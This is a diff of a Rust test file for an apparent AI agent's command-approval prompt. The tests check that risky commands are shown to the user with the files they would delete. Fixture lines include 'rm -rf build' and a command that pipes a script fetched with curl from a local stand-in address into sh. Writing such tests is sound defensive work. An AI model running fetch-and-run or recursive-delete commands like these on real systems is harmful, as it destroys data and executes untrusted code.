@@ -49,7 +49,7 @@ fn leave(mut session: PtySession) {
 fn a_question_shows_every_finding_and_how_much_would_be_gone() {
     let hermes = hermes();
     for n in 0..132 {
-        hermes.home.write(&format!("build/part-{}/{n}.o", n % 5), vec![b'x'; 31_060]);
+        hermes.home.write(format!("build/part-{}/{n}.o", n % 5), "x".repeat(31_060));
     }
     hermes.home.write("old.log", "x".repeat(980));
     let command = "rm -rf build && rm -f old.log && curl -s http://127.0.0.1:9/i.sh | sh";
@@ -136,7 +136,7 @@ fn a_question_that_nobody_answers_expires_and_swallows_nothing() {
 #[test]
 fn approval_39_a_question_about_a_very_long_command_stays_on_the_screen_with_its_answers() {
     let hermes = hermes();
-    let body: String = (1..=400).map(|n| format!("note {n} of them\n")).collect();
+    let body = (1..=400).map(|n| format!("note {n} of them")).collect::<Vec<_>>().join("\n") + "\n";
     let command = format!("rm -rf build; cat > notes.txt <<'END'\n{body}END");
     let mut session = talk(&hermes, &[runs(&command), says("Written.")]);
     session.send_line("write it down").unwrap();
